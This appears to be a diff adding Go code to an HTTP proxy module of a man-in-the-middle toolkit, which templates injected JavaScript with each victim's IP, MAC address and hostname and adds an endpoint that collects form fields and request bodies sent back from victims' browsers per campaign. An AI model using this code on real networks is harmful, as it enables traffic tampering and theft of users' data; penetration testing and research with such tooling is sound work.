@@ -0,0 +1,118 @@
+package http_proxy
+
+import (
+	"bytes"
+	"html/template"
+	"io/ioutil"
+	"net/http"
+	"strings"
+
+	"github.com/elazarl/goproxy"
+)
+
+const maxCollectSize = 64 * 1024
+
+// PayloadData is what the injected javascript templates can access, only values
+// related to the victim are exposed and html/template escapes them depending on
+// the context they're used in (in a script block they're rendered as JS strings).
+type PayloadData struct {
+	ClientIP  string
+	ClientMAC string
+	Hostname  string
+	Alias     string
+	Vendor    string
+	Host      string
+	Path      string
+	Campaign  string
+	Collect   string
+}
+
+// CollectEvent is pushed every time a victim hits the collection endpoint.
+type CollectEvent struct {
+	From      string            `json:"from"`
+	Host      string            `json:"host"`
+	Campaign  string            `json:"campaign"`
+	UserAgent string            `json:"user_agent"`
+	Data      map[string]string `json:"data"`
+}
+
+func (p *HTTPProxy) compilePayload() (err error) {
+	p.jsTemplate = nil
+	// plain payloads are injected as they are, even if they contain {{
+	if p.Template {
+		p.jsTemplate, err = template.New("payload").Parse(p.jsHook)
+	}
+	return
+}
+
+func (p *HTTPProxy) payloadData(req *http.Request) PayloadData {
+	data := PayloadData{
+		ClientIP: stripPort(req.RemoteAddr),
+		Host:     req.Host,
+		Path:     req.URL.Path,
+		Campaign: p.Campaign,
+		Collect:  p.CollectPath,
+	}
+
+	if e := p.sess.Lan.GetByIp(data.ClientIP); e != nil {
+		data.ClientMAC = e.HwAddress
+		data.Hostname = e.Hostname
+		data.Alias = e.Alias
+		data.Vendor = e.Vendor
+	}
+
+	return data
+}
+
+func (p *HTTPProxy) renderPayload(req *http.Request) (error, string) {
+	if p.jsTemplate == nil {
+		return nil, p.jsHook
+	}
+
+	buf := bytes.Buffer{}
+	if err := p.jsTemplate.Execute(&buf, p.payloadData(req)); err != nil {
+		return err, ""
+	}
+	return nil, buf.String()
+}
+
+func (p *HTTPProxy) isCollectRequest(req *http.Request) bool {
+	return p.CollectPath != "" && req.URL.Path == p.CollectPath
+}
+
+func (p *HTTPProxy) onCollect(req *http.Request) *http.Response {
+	event := CollectEvent{
+		From:      stripPort(req.RemoteAddr),
+		Host:      req.Host,
+		Campaign:  p.Campaign,
+		UserAgent: req.UserAgent(),
+		Data:      make(map[string]string),
+	}
+
+	for name, values := range req.URL.Query() {
+		event.Data[name] = strings.Join(values, ",")
+	}
+
+	if req.Body != nil {
+		if body, err := ioutil.ReadAll(http.MaxBytesReader(nil, req.Body, maxCollectSize)); err != nil {
+			p.Debug("error reading collected data from %s: %s", event.From, err)
+		} else if len(body) > 0 {
+			if strings.Contains(req.Header.Get("Content-Type"), "application/x-www-form-urlencoded") {
+				req.Body = ioutil.NopCloser(bytes.NewReader(body))
+				if err := req.ParseForm(); err == nil {
+					for name, values := range req.PostForm {
+						event.Data[name] = strings.Join(values, ",")
+					}
+				}
+			} else {
+				event.Data["body"] = string(body)
+			}
+		}
+	}
+
+	p.sess.Events.Add(p.Name+".collect", event)
+
+	res := goproxy.NewResponse(req, "text/plain", http.StatusNoContent, "")
+	res.Header.Set("Access-Control-Allow-Origin", "*")
+	return res
+}